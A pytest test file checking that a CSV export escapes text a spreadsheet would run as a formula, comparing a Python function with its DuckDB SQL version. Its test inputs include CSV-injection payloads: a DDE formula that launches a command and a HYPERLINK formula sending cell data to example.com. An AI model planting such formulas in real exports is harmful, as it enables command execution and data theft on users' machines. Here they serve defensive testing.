"""Text that a spreadsheet would run as a formula is escaped."""

from __future__ import annotations

import duckdb
import pytest

from auditor.analysis.csv_lines import escape_formula, escape_formula_sql

# The starts that OWASP, "CSV Injection", lists, also after spaces.
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\x00=1",
    "\u00a0=1",
    "\u3000=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20a",
    "\tplain",
    '=HYPERLINK("http://example.com/?"&A1,"here")',
    "=cmd|'/C calc'!A0",
]
TEXTS = ["", "a", "1.0", "sha256:00", "a=1", "team/app", "'=1", "_-", "\u2014", "[=1]"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", TEXTS)
def test_other_text_is_unchanged(text: str) -> None:
    assert escape_formula(text) == text


def test_the_sql_expression_agrees() -> None:
    with duckdb.connect() as connection:
        for text in [*FORMULAS, *TEXTS]:
            found = connection.execute(
                f"SELECT {escape_formula_sql('t')} FROM (SELECT ?::VARCHAR AS t)",  # noqa: S608
                [text],
            ).fetchall()
            assert found == [(escape_formula(text),)]
        null = connection.execute(
            f"SELECT {escape_formula_sql('NULL::VARCHAR')}"
        ).fetchall()
        assert null == [(None,)]
